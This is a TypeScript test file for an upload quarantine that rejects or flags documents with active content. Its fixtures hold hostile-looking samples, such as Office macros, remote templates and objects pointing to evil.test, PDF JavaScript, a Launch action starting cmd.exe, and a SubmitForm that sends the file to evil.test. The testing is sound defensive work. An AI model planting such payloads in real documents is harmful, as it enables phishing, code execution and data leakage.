// @vitest-environment node
import { deflateSync } from 'node:zlib';
import { CHUNK_BYTES } from '@/lib/platform/encryption';
import { clamdAt, EICAR } from '@/tests/support/clamd';
import { CV, contentOf, filesIn, quarantineFor, refOf, send } from '@/tests/support/quarantine';
import { oleOf } from '@/tests/support/files/documents';
import { pdfWith } from '@/tests/support/files/pdfs';
import { docmOf, docxOf, odfOf, xlsxOf } from '@/tests/support/files/zips';

const WORDS = 'Ik wil graag komen werken bij de boerderij.';
const latin1 = (text: string) => Buffer.from(text, 'latin1');

type File = readonly [words: string, name: string, make: () => Buffer | Promise<Buffer>];

/** The mark of an embedded object begins at this byte. */
const rtfWithObjectAt = (at: number): Buffer => {
  const start = '{\\rtf1 ';
  return latin1(`${start}${' '.repeat(at - start.length)}\\objdata 01}`);
};

/** A letter with a relationship of this type to another host. */
const remote = (type: string) =>
  docxOf(WORDS, {
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.test/x" TargetMode="External"/></Relationships>`,
  });

const brokenPdf = (inside: string): Buffer =>
  latin1(`%PDF-1.7\n1 0 obj\n${inside}\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`);

/** As writers since PDF 1.5 keep dictionaries. */
const compressed = (dictionary: string): string =>
  `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\r\n${deflateSync(`1 0 ${dictionary}`).toString('latin1')}\nendstream`;

const active: readonly File[] = [
  ['a letter with macros, under the name of one without', 'brief.docx', () => docmOf(WORDS)],
  [
    'a letter with macros that it does not name',
    'brief.docx',
    () => docxOf(WORDS, { 'word/vbaProject.bin': 'x' }),
  ],
  ['a letter of Word 97 with macros', 'brief.doc', () => oleOf('WordDocument', 'VBA')],
  [
    'a letter with macros at the end of a sector',
    'brief.doc',
    () => oleOf('WordDocument', '1Table', 'VBA'),
  ],
  [
    'a letter with macros at the start of the next sector',
    'brief.doc',
    () => oleOf('WordDocument', '1Table', 'Data', 'VBA'),
  ],
  ['an open letter with macros', 'brief.odt', () => odfOf('text', { 'Basic/Standard/M.xml': 'x' })],
  ['rich text with an object in it', 'brief.rtf', () => latin1('{\\rtf1{\\object{\\objdata 01}}}')],
  [
    'rich text with an object on the border of two chunks',
    'brief.rtf',
    () => rtfWithObjectAt(CHUNK_BYTES - 4),
  ],
  [
    'rich text with an object after many chunks',
    'brief.rtf',
    () => rtfWithObjectAt(3 * CHUNK_BYTES - 1),
  ],
  [
    'rich text with a template from elsewhere',
    'brief.rtf',
    () => latin1('{\\rtf1{\\*\\template http://evil.test/x.dotm}}'),
  ],
  ['a letter with a template from elsewhere', 'brief.docx', () => remote('attachedTemplate')],
  ['a letter with a picture from elsewhere', 'brief.docx', () => remote('image')],
  ['a letter with a frame from elsewhere', 'brief.docx', () => remote('frame')],
  ['a letter with an object from elsewhere', 'brief.docx', () => remote('oleObject')],
  [
    'a letter that writes its relationships otherwise',
    'brief.docx',
    () =>
      docxOf(WORDS, {
        'word/_rels/settings.xml.rels':
          "<r:Relationships xmlns:r='x'><r:Relationship Id='a' TargetMode = 'Ext&#101;rnal' Target='\\\\evil.test\\x' Type='a'\n/></r:Relationships>",
      }),
  ],
  [
    'a letter with relationships in UTF-16',
    'brief.docx',
    () =>
      docxOf(WORDS, { 'word/_rels/a.rels': Buffer.from('<a TargetMode="External"/>', 'utf16le') }),
  ],
  [
    'a letter with more attributes than an element has',
    'brief.docx',
    () =>
      docxOf(WORDS, {
        'word/_rels/a.rels': `<a ${Array.from({ length: 2_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
      }),
  ],
  ['a letter with a control', 'brief.docx', () => docxOf(WORDS, { 'word/activeX/a.xml': '<a/>' })],
  [
    'a letter with an embedded object',
    'brief.docx',
    () => docxOf(WORDS, { 'word/embeddings/oleObject1.bin': 'x' }),
  ],
  [
    'an open letter that listens',
    'brief.odt',
    () => odfOf('text', { 'styles.xml': '<a><script:event-listener xlink:href="x"/></a>' }),
  ],
  [
    'an open letter with an object from elsewhere',
    'brief.odt',
    () => odfOf('text', { 'styles.xml': '<draw:object xlink:href="https://evil.test/x"/>' }),
  ],
  [
    'an open letter with a template from elsewhere',
    'brief.odt',
    () => odfOf('text', { 'meta.xml': "<meta:template xlink:href='smb://evil.test/x'/>" }),
  ],
  ...(
    [
      ['with JavaScript', '<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'],
      ['with JavaScript under another name', '<</S /J#61vaScript /JS 4 0 R>>'],
      ['that starts a program', '<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>'],
      ['with JavaScript for a film', '<</S/Rendition/JS(x)>>'],
      ['with rich media', '<</Subtype/RichMedia>>'],
      [
        'that opens a page elsewhere',
        '<</OpenAction <</Type/Action/S/URI/URI(http://evil.test)>>>>',
      ],
      ['that sends itself', '<</OpenAction<</S/SubmitForm/F(http://evil.test)>>>>'],
      ['that opens another one inside', '<</S/GoToE/T<<>>>>'],
      [
        'that opens elsewhere by a reference',
        '<</OpenAction 9 0 R>>endobj 9 0 obj\n<</S/URI/URI(http://evil.test)>>endobj',
      ],
      ['with a compressed script', compressed('<</S/JavaScript/JS(x)>>')],
      [
        'with a script on the border of two chunks',
        `${' '.repeat(CHUNK_BYTES - 60)}<</S/JavaScript>>`,
      ],
    ] as const
  ).map(([words, inside]): File => [`a PDF ${words}`, 'cv.pdf', () => brokenPdf(inside)]),
];

test.each(active)('%s is rejected for what it does', async (_, name, make) => {
  const quarantine = quarantineFor();

  expect(await send(quarantine, name, await make())).toMatchObject({
    kind: 'rejected',
    reason: 'active',
  });
  expect(filesIn(quarantine.folder)).toEqual([]);
});

test.each<File>([
  ['a letter with a link', 'brief.docx', () => remote('hyperlink')],
  [
    'a letter with a sheet in it',
    'brief.docx',
    async () => docxOf(WORDS, { 'word/embeddings/a.xlsx': await xlsxOf('x') }),
  ],
  [
    'an open letter with a link',
    'brief.odt',
    () => odfOf('text', { 'styles.xml': '<text:a xlink:href="https://kadelicht.example"/>' }),
  ],
  [
    'an open letter with a picture',
    'brief.odt',
    () => odfOf('text', { 'styles.xml': '<draw:image xlink:href="Pictures/a.png"/>' }),
  ],
])('%s is taken', async (_, name, make) => {
  expect(await send(quarantineFor(), name, await make())).toMatchObject({ kind: 'stored' });
});

test.each(active)('%s is taken where a mark is enough, and staff see it', async (_, name, make) => {
  const quarantine = quarantineFor({ marksActive: true });
  const bytes = await make();
  const ref = refOf(await send(quarantine, name, bytes));
  const found = quarantine.resolve(ref, CV);
  const opened = found.kind === 'stored' ? await quarantine.open(found.id) : null;

  expect(found).toMatchObject({ name });
  expect(opened).toMatchObject({ name: `LET OP actieve inhoud - ${name}` });
  expect(await contentOf(quarantine, ref)).toEqual(bytes);
});

test('a mark is for active files only, and malware is refused with it', async () => {
  const quarantine = quarantineFor({ marksActive: true, scanUrl: await clamdAt(0) });
  const ref = refOf(await send(quarantine, 'cv.pdf', pdfWith('')));
  const found = quarantine.resolve(ref, CV);
  const opened = found.kind === 'stored' ? await quarantine.open(found.id) : null;

  expect(opened).toMatchObject({ name: 'cv.pdf' });
  expect(
    await send(quarantine, 'cv.pdf', brokenPdf(`<</S/JavaScript>> ${EICAR.toString()}`)),
  ).toMatchObject({ kind: 'rejected', reason: 'malware' });
  expect(await send(quarantine, 'brief.docx', latin1(WORDS))).toMatchObject({ reason: 'content' });
});
